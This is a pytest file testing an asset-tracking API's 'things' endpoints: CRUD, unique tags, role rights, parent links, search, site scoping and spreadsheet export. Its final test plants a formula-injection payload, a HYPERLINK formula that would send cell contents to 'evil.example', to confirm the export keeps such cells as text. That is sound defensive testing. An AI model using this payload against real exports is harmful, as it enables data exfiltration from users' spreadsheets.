"""Things: CRUD, per-class rights, unique tags, look-up by tag, parents, search, export."""

import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from tests.conftest import Org
from tests.helpers import OTHER_ID, assert_error, signed_in_user
from tests.reporting import laid_out
from tests.tracking_api import make_endpoint, make_thing, make_zone, set_state, thing_body

UNSET = "0001-01-01T00:00:00Z"
T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)


async def things_of(client: httpx.AsyncClient, **params: Any) -> list[str]:
    response = await client.get("/api/things", params=params)
    assert response.status_code == 200, response.text
    return [t["common"]["name"] for t in response.json()]


async def test_create_and_read_every_field(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    common = {
        "name": " Forklift 7 ",
        "description": "Electric counterbalance",
        "serial": " SN-7781 ",
        "class": "item",
        "tag1": " e28011606000020a6681f23f ",
        "tag2": "abc",
        "tags": ["t-1", "T-2", "t-1", " "],
        "tags1": ["x1"],
        "tags2": ["y1"],
        "categories": ["Vehicles"],
        "labels": ["blue"],
        "parents": [],
        "photo": [],
        "timeCreated": "2000-01-01T00:00:00Z",
    }
    body = {"site": org.site_ids[0], "common": common, "data": {"cFloat0": 3.5}}
    response = await admin.post("/api/things", json=body)
    assert response.status_code == 201, response.text
    thing = response.json()
    assert set(thing) == {"_id", "site", "common", "state", "data"}
    assert thing["site"] == org.site_ids[0]
    c = thing["common"]
    assert c["name"] == "Forklift 7" and c["serial"] == "SN-7781"
    assert c["class"] == "item"
    assert c["tag1"] == "E28011606000020A6681F23F" and c["tag2"] == "ABC"
    assert c["tags"] == ["T-1", "T-2"] and c["tags1"] == ["X1"] and c["tags2"] == ["Y1"]
    assert c["categories"] == ["Vehicles"] and c["labels"] == ["blue"]
    assert c["timeCreated"] != "2000-01-01T00:00:00Z"
    assert c["timeCreated"].endswith("Z") and c["timeModified"].endswith("Z")
    assert thing["state"] == {
        "zone": "",
        "zoneName": "",
        "lastEvent": UNSET,
        "lastEndpointTime": UNSET,
        "lastZoneTime": UNSET,
        "endpoint": "",
        "endpointName": "",
        "direction": "",
        "locationTag": "",
        "xycoordinates": [0, 0],
        "map": "",
        "alarmTamper": False,
        "alarmTamperTag": "",
        "alarmTamperTime": UNSET,
    }
    assert thing["data"] == {"cFloat0": 3.5}
    assert (await admin.get(f"/api/things/{thing['_id']}")).json() == thing


async def test_state_names_come_from_zone_and_endpoint(org_factory, sessionmaker) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    site = org.site_ids[0]
    zone = await make_zone(admin, site, "Workshop")
    endpoint = await make_endpoint(admin, site, "Workshop door")
    thing = await make_thing(admin, site, "Drill")
    await set_state(
        sessionmaker,
        thing["_id"],
        zone_id=zone["_id"],
        endpoint_id=endpoint["_id"],
        last_event=T0,
        last_zone_time=T0,
        direction="IN",
    )
    state = (await admin.get(f"/api/things/{thing['_id']}")).json()["state"]
    assert state["zone"] == zone["_id"] and state["zoneName"] == "Workshop"
    assert state["endpoint"] == endpoint["_id"] and state["endpointName"] == "Workshop door"
    assert state["lastEvent"] == "2026-03-02T08:00:00Z" and state["lastEndpointTime"] == UNSET
    listed = (await admin.get("/api/things", params={"sort": "-zoneName"})).json()
    assert listed[0]["state"]["zoneName"] == "Workshop"


async def test_update_replaces_common_and_data(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    thing = await make_thing(admin, org.site_ids[0], tag1="AAA", tags=["BBB"])
    url = f"/api/things/{thing['_id']}"
    common = {**thing["common"], "name": "Renamed", "tag1": "ccc", "tags": [], "serial": "S1"}
    response = await admin.put(url, json={**thing, "common": common, "data": {"cFloat0": None}})
    assert response.status_code == 200, response.text
    updated = response.json()
    assert updated["common"]["name"] == "Renamed" and updated["common"]["tag1"] == "CCC"
    assert updated["common"]["tags"] == [] and updated["data"] == {"cFloat0": None}
    assert updated["common"]["timeModified"] >= thing["common"]["timeModified"]
    assert updated["common"]["timeCreated"] == thing["common"]["timeCreated"]
    # The old tags are free again, the new one is taken.
    await make_thing(admin, org.site_ids[0], "Reuses", tag1="aaa", tags=["bbb"])
    response = await admin.post("/api/things", json=thing_body(org.site_ids[0], "X", tag1="CCC"))
    assert_error(response, 400, "duplicate", "Tag CCC is a duplicate of another thing's tag")
    # A PUT without class keeps it.
    without_class = {k: v for k, v in common.items() if k != "class"}
    response = await admin.put(url, json={"common": without_class})
    assert response.status_code == 200 and response.json()["common"]["class"] == "item"


async def test_class_is_required_and_immutable(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    body = {"site": org.site_ids[0], "common": {"name": "No class"}}
    assert_error(
        await admin.post("/api/things", json=body), 422, message="common.class: is required"
    )
    body["common"]["class"] = "robot"
    assert_error(await admin.post("/api/things", json=body), 422, message="common.class")
    thing = await make_thing(admin, org.site_ids[0], "Ann", "worker")
    url = f"/api/things/{thing['_id']}"
    changed = {**thing, "common": {**thing["common"], "class": "item", "name": "Changed"}}
    assert_error(await admin.put(url, json=changed), 400, message="common.class cannot change")
    assert (await admin.get(url)).json() == thing


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ({"tag1": "E2801160"}, {"tag1": "e2801160"}),
        ({"tag1": "E2801160"}, {"tag2": " e2801160 "}),
        ({"tags": ["A", "E2801160"]}, {"tags1": ["E2801160"]}),
        ({"tags2": ["e2801160"]}, {"tags": ["B", "E2801160"]}),
        ({"tags1": ["E2801160"]}, {"tag1": "E2801160"}),
    ],
)
async def test_tags_are_unique_across_things_and_fields(org_factory, first, second) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    await make_thing(admin, org.site_ids[0], "First", **first)
    body = thing_body(org.site_ids[1], "Second", "worker", **second)
    assert_error(await admin.post("/api/things", json=body), 400, "duplicate", "duplicate")
    assert await things_of(admin) == ["First"]


async def test_repeated_tags_within_one_thing_are_fine(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    thing = await make_thing(
        admin, org.site_ids[0], tag1="abc", tag2="ABC", tags=["abc", "Abc"], tags1=["ABC"]
    )
    assert thing["common"]["tags"] == ["ABC"]
    # Saving it unchanged keeps it valid.
    response = await admin.put(f"/api/things/{thing['_id']}", json=thing)
    assert response.status_code == 200, response.text
    # Other organizations keep their own tags.
    other: Org = await org_factory()
    await make_thing(other.client("Administrator"), other.site_ids[0], tag1="ABC")


async def test_update_with_another_things_tag_changes_nothing(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    await make_thing(admin, org.site_ids[0], "One", tag1="T1")
    two = await make_thing(admin, org.site_ids[0], "Two", tag1="T2")
    url = f"/api/things/{two['_id']}"
    changed = {**two, "common": {**two["common"], "name": "Changed", "tags": ["t1"]}}
    assert_error(await admin.put(url, json=changed), 400, "duplicate", "Tag T1 is a duplicate")
    assert (await admin.get(url)).json() == two
    assert (await admin.get("/api/things/tag/t2")).json()["_id"] == two["_id"]


async def test_find_by_any_tag(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    thing = await make_thing(
        admin,
        org.site_ids[0],
        tag1="AA01",
        tag2="AA02",
        tags=["AA03"],
        tags1=["AA04"],
        tags2=["AA05"],
    )
    for tag in ("AA01", "aa02", " aa03 ", "Aa04", "AA05"):
        response = await org.client("Viewer").get(f"/api/things/tag/{tag}")
        assert response.status_code == 200, tag
        assert response.json()["_id"] == thing["_id"]
    assert_error(await admin.get("/api/things/tag/AA06"), 404)
    other: Org = await org_factory()
    assert_error(await other.client("Administrator").get("/api/things/tag/AA01"), 404)


@pytest.mark.parametrize(
    ("common", "text"),
    [
        ({"tags": "ABC"}, "common.tags"),
        ({"tags": [1, 2]}, "common.tags.0"),
        ({"tag1": "x" * 129}, "common.tag1"),
        ({"parents": ["nope"]}, "common.parents.0: must be a 24-character hex id"),
        ({"name": 12}, "common.name"),
        ({"categories": None}, "common.categories"),
    ],
)
async def test_wrong_types_are_refused(org_factory, common, text) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    body = thing_body(org.site_ids[0], **common)
    assert_error(await admin.post("/api/things", json=body), 422, message=text)
    assert await things_of(admin) == []


async def test_malformed_bodies(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    thing = await make_thing(admin, org.site_ids[0])
    bad = {"content": b'{"common": ', "headers": {"content-type": "application/json"}}
    assert_error(await admin.post("/api/things", **bad), 422)
    assert_error(await admin.put(f"/api/things/{thing['_id']}", **bad), 422)
    assert_error(
        await admin.post("/api/things", json={"common": {"class": "item"}}), 422, message="site"
    )
    body = {**thing_body(org.site_ids[0]), "data": {"cFloat0": "warm"}}
    assert_error(await admin.post("/api/things", json=body), 422, message="data.cFloat0")
    assert (await admin.get(f"/api/things/{thing['_id']}")).json() == thing
    assert await things_of(admin) == ["Pallet jack"]


async def test_state_is_read_only_except_clearing_the_tamper_alarm(
    org_factory, sessionmaker
) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    zone = await make_zone(admin, org.site_ids[0])
    thing = await make_thing(admin, org.site_ids[0], tag1="T1")
    await set_state(
        sessionmaker, thing["_id"], alarm_tamper=True, alarm_tamper_tag="T1", alarm_tamper_time=T0
    )
    url = f"/api/things/{thing['_id']}"
    current = (await admin.get(url)).json()
    assert current["state"]["alarmTamper"] is True
    forged = {**current, "state": {**current["state"], "zone": zone["_id"], "alarmTamper": True}}
    response = await admin.put(url, json=forged)
    assert response.json()["state"] == current["state"]
    cleared = {**current, "state": {**current["state"], "alarmTamper": False}}
    state = (await admin.put(url, json=cleared)).json()["state"]
    assert state["alarmTamper"] is False and state["zone"] == ""


async def test_rights_follow_the_class(org_factory) -> None:
    org: Org = await org_factory()
    site = org.site_ids[0]
    admin = org.client("Administrator")
    item = await make_thing(admin, site, "Item")
    worker = await make_thing(admin, site, "Worker", "worker")
    viewer = org.client("Viewer")
    for thing in (item, worker):
        cls = thing["common"]["class"]
        assert_error(await viewer.post("/api/things", json=thing_body(site, "V", cls)), 403)
        assert_error(await viewer.put(f"/api/things/{thing['_id']}", json=thing), 403)
        assert_error(await viewer.delete(f"/api/things/{thing['_id']}"), 403)
        assert (await viewer.get(f"/api/things/{thing['_id']}")).status_code == 200
    operator = org.client("Operator")
    await make_thing(operator, site, "By operator")
    assert (await operator.put(f"/api/things/{item['_id']}", json=item)).status_code == 200
    assert_error(await operator.delete(f"/api/things/{item['_id']}"), 403, message="items")
    assert (await org.client("Manager").delete(f"/api/things/{item['_id']}")).status_code == 204


async def test_rights_per_resource(org_factory, app, sessionmaker) -> None:
    """A role with rights on items only may not touch workers, and the other way round."""
    org: Org = await org_factory()
    site = org.site_ids[0]
    admin = org.client("Administrator")
    worker = await make_thing(admin, site, "Ann", "worker")
    item = await make_thing(admin, site, "Box")
    async with sessionmaker() as session, session.begin():
        from sqlalchemy import update

        from tagtrack.models import AccessRule

        await session.execute(
            update(AccessRule)
            .where(AccessRule.role_id == org.role_ids["Operator"], AccessRule.resource == "workers")
            .values(create=False, modify=False, delete=False)
        )
    client, _ = await signed_in_user(app, sessionmaker, org, ["Operator"], name="ItemsOnly")
    assert_error(
        await client.post("/api/things", json=thing_body(site, "W", "worker")),
        403,
        message="workers",
    )
    assert_error(await client.put(f"/api/things/{worker['_id']}", json=worker), 403)
    assert (await client.put(f"/api/things/{item['_id']}", json=item)).status_code == 200


async def test_children_and_parents(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    site = org.site_ids[0]
    kit = await make_thing(admin, site, "Tool kit")
    case = await make_thing(admin, site, "Case")
    drill = await make_thing(admin, site, "Drill")
    # The console links a child by PUTting it with the parent appended.
    for child in (drill, case):
        common = {**child["common"], "parents": [*child["common"]["parents"], kit["_id"]]}
        response = await admin.put(f"/api/things/{child['_id']}", json={**child, "common": common})
        assert response.status_code == 200, response.text
        assert response.json()["common"]["parents"] == [kit["_id"]]
    children = await admin.get(f"/api/things/{kit['_id']}/children")
    assert [t["common"]["name"] for t in children.json()] == ["Case", "Drill"]
    assert children.headers["x-total-count"] == "2"
    drill = (await admin.get(f"/api/things/{drill['_id']}")).json()
    common = {**drill["common"], "parents": [kit["_id"], case["_id"], kit["_id"]]}
    response = await admin.put(f"/api/things/{drill['_id']}", json={**drill, "common": common})
    assert response.json()["common"]["parents"] == [kit["_id"], case["_id"]]
    parents = await admin.get(f"/api/things/{drill['_id']}/parents")
    assert [t["common"]["name"] for t in parents.json()] == ["Case", "Tool kit"]
    assert (await admin.get(f"/api/things/{case['_id']}/children")).json()[0]["_id"] == drill["_id"]
    assert (await admin.get(f"/api/things/{drill['_id']}/children")).json() == []
    # Unlink: PUT without the parent.
    common = {**drill["common"], "parents": [case["_id"]]}
    await admin.put(f"/api/things/{drill['_id']}", json={**drill, "common": common})
    kids = await admin.get(f"/api/things/{kit['_id']}/children")
    assert [t["common"]["name"] for t in kids.json()] == ["Case"]
    # Deleting a parent drops it from its children.
    assert (await admin.delete(f"/api/things/{case['_id']}")).status_code == 204
    assert (await admin.get(f"/api/things/{drill['_id']}")).json()["common"]["parents"] == []
    assert_error(await admin.get(f"/api/things/{OTHER_ID}/children"), 404)
    assert_error(await admin.get(f"/api/things/{OTHER_ID}/parents"), 404)


async def test_parent_must_exist_and_not_be_itself(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    site = org.site_ids[0]
    thing = await make_thing(admin, site, "Child")
    url = f"/api/things/{thing['_id']}"
    itself = {**thing, "common": {**thing["common"], "parents": [thing["_id"]]}}
    assert_error(await admin.put(url, json=itself), 400, message="cannot be its own parent")
    missing = {**thing, "common": {**thing["common"], "parents": [OTHER_ID]}}
    assert_error(await admin.put(url, json=missing), 400, message="Parent no longer exists.")
    body = thing_body(site, "New", parents=[OTHER_ID])
    assert_error(
        await admin.post("/api/things", json=body), 400, message="Parent no longer exists."
    )
    other: Org = await org_factory()
    theirs = await make_thing(other.client("Administrator"), other.site_ids[0], "Theirs")
    foreign = {**thing, "common": {**thing["common"], "parents": [theirs["_id"]]}}
    assert_error(await admin.put(url, json=foreign), 400, message="Parent no longer exists.")
    assert (await admin.get(url)).json() == thing


async def test_search_filters_sort_and_page(org_factory, sessionmaker) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    a, b = org.site_ids
    await make_thing(admin, a, "Pallet jack", serial="PJ-100", tag1="E200AA")
    await make_thing(admin, a, "Forklift", description="Yellow jack-of-all-trades")
    await make_thing(admin, a, "Ladder", tags2=["LADDERTAG"], categories=["Climbing"])
    await make_thing(admin, a, "Ann Smith", "worker", serial="EMP-1")
    late = await make_thing(admin, b, "Crate", serial="C-1")
    await set_state(sessionmaker, late["_id"], last_event=T0)
    viewer = org.client("Viewer")
    assert await things_of(viewer, search="jack") == ["Forklift", "Pallet jack"]
    assert await things_of(viewer, search="pj-1") == ["Pallet jack"]
    assert await things_of(viewer, search="e200a") == ["Pallet jack"]
    assert await things_of(viewer, search="laddertag") == ["Ladder"]
    assert await things_of(viewer, search="100%") == []
    assert await things_of(viewer, **{"class": "worker"}) == ["Ann Smith"]
    assert await things_of(viewer, **{"class": "item", "site": a}) == [
        "Forklift",
        "Ladder",
        "Pallet jack",
    ]
    assert await things_of(viewer, site="0" * 24, sort="-name", limit=2) == [
        "Pallet jack",
        "Ladder",
    ]
    assert await things_of(viewer, sort="common.serial", search="-1") == [
        "Crate",
        "Ann Smith",
        "Pallet jack",
    ]
    assert await things_of(viewer, tags="laddertag,E200AA") == ["Ladder", "Pallet jack"]
    assert await things_of(viewer, category="Climbing") == ["Ladder"]
    assert await things_of(viewer, after="2026-03-01T00:00:00Z") == ["Crate"]
    page = await viewer.get("/api/things", params={"limit": 2, "page": 1})
    assert page.headers["x-total-count"] == "5"
    assert [t["common"]["name"] for t in page.json()] == ["Forklift", "Ladder"]
    assert_error(await viewer.get("/api/things", params={"class": "robot"}), 422)
    assert_error(await viewer.get("/api/things", params={"sort": "secret"}), 400)


async def test_other_organization_and_site_scope(org_factory, app, sessionmaker) -> None:
    org: Org = await org_factory()
    other: Org = await org_factory()
    admin = org.client("Administrator")
    theirs = await make_thing(other.client("Administrator"), other.site_ids[0], "Theirs")
    url = f"/api/things/{theirs['_id']}"
    assert_error(await admin.get(url), 404)
    assert_error(await admin.put(url, json=theirs), 404)
    assert_error(await admin.delete(url), 404)
    assert_error(await admin.post("/api/things", json=thing_body(other.site_ids[0])), 404)
    assert await things_of(admin) == []

    a, b = org.site_ids
    await make_thing(admin, a, "Mine", tag1="M1")
    hidden = await make_thing(admin, b, "Hidden", tag1="H1")
    client, _ = await signed_in_user(app, sessionmaker, org, ["Administrator"], [a])
    assert await things_of(client) == ["Mine"]
    assert await things_of(client, site="0" * 24) == ["Mine"]
    assert_error(await client.get("/api/things", params={"site": b}), 404)
    assert_error(await client.get(f"/api/things/{hidden['_id']}"), 404)
    assert_error(await client.put(f"/api/things/{hidden['_id']}", json=hidden), 404)
    assert_error(await client.get("/api/things/tag/H1"), 404)
    assert_error(await client.post("/api/things", json=thing_body(b, "Sneaky")), 404)
    export = await client.get("/api/things/export")
    assert [r[0] for r in rows_of(export)[1:]] == ["Mine"]


def rows_of(response: httpx.Response) -> list[list[Any]]:
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    return [list(row) for row in book.active.iter_rows(values_only=True)]


async def test_export_holds_exactly_the_list_rows(org_factory, sessionmaker) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    a, b = org.site_ids
    zone = await make_zone(admin, a, "Workshop")
    drill = await make_thing(
        admin, a, "Drill", serial="D-1", tag1="D1", tags=["D2", "D3"], categories=["Tools"]
    )
    await set_state(sessionmaker, drill["_id"], zone_id=zone["_id"], last_event=T0)
    await make_thing(admin, a, "=1+1", serial="F-1")
    await make_thing(admin, a, "Saw", serial="S-1")
    await make_thing(admin, a, "Ann", "worker")
    await make_thing(admin, b, "Elsewhere")
    await admin.put(
        f"/api/sites/{a}/settings", json={"itemNameLabel": "Asset", "itemSerialLabel": "Serial No."}
    )
    params = {"site": a, "class": "item", "sort": "-name", "download": "true"}
    response = await org.client("Viewer").get("/api/things/export", params=params)
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"].startswith("attachment")
    assert "items.xlsx" in response.headers["content-disposition"]
    rows = rows_of(response)
    header = rows[0]
    assert header[:3] == ["Asset", "Serial No.", "Description"]
    listed = await things_of(admin, site=a, **{"class": "item"}, sort="-name")
    assert [r[0] for r in rows[1:]] == listed == ["Saw", "Drill", "=1+1"]
    drill_row = dict(zip(header, rows[2], strict=True))
    assert drill_row["Serial No."] == "D-1" and drill_row["Tag 1"] == "D1"
    assert drill_row["Tags"] == "D2, D3" and drill_row["Categories"] == "Tools"
    assert drill_row["Zone"] == "Workshop" and drill_row["Id"] == drill["_id"]
    # Things of several sites are on no one site's clock: their times are in UTC, and say so.
    assert drill_row["Last Event (UTC)"] == datetime(2026, 3, 2, 8, 0)
    assert header[13:17] == [
        "Last Event (UTC)", "Last Zone Time (UTC)", "Created (UTC)", "Modified (UTC)"
    ]  # fmt: skip
    laid_out(load_workbook(io.BytesIO(response.content)))
    assert rows[3][0] == "=1+1"  # text, not a formula
    # Search narrows the export exactly like the list.
    searched = rows_of(await admin.get("/api/things/export", params={"site": a, "search": "saw"}))
    assert [r[0] for r in searched[1:]] == ["Saw"]
    # Without a site: the organization's labels or the defaults.
    every = rows_of(await admin.get("/api/things/export"))
    assert every[0][:2] == ["Name", "Serial"]
    assert len(every) == 1 + 5


async def test_export_needs_a_session(anonymous) -> None:
    assert_error(await anonymous.get("/api/things/export"), 401)
    assert_error(await anonymous.get("/api/things"), 401)


async def test_all_sites_is_not_a_site_to_create_in(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    response = await admin.post("/api/things", json=thing_body("0" * 24))
    assert_error(response, 400, message="All Sites is not a site")
    response = await admin.post("/api/zones", json={"name": "Z", "site": "0" * 24})
    assert_error(response, 400, message="All Sites is not a site")


async def test_export_gathers_every_page(org_factory, monkeypatch) -> None:
    import tagtrack.things.service

    monkeypatch.setattr(tagtrack.things.service, "EXPORT_PAGE", 2)
    org: Org = await org_factory()
    admin = org.client("Administrator")
    for n in range(5):
        await make_thing(admin, org.site_ids[0], f"Tote {n}")
    rows = rows_of(await admin.get("/api/things/export", params={"sort": "-name"}))
    assert [r[0] for r in rows[1:]] == [f"Tote {n}" for n in (4, 3, 2, 1, 0)]


async def test_export_cells_holding_formulas_stay_text(org_factory) -> None:
    org: Org = await org_factory()
    admin = org.client("Administrator")
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    await make_thing(
        admin, org.site_ids[0], hyperlink, serial="+SUM(A1:A9)", description="@cmd", tag1="=1+1"
    )
    response = await admin.get("/api/things/export")
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = load_workbook(io.BytesIO(response.content)).active[2]
    by_value = {cell.value: cell.data_type for cell in cells if cell.value}
    for text in (hyperlink, "+SUM(A1:A9)", "@cmd"):
        assert by_value[text] == "s", (text, by_value)
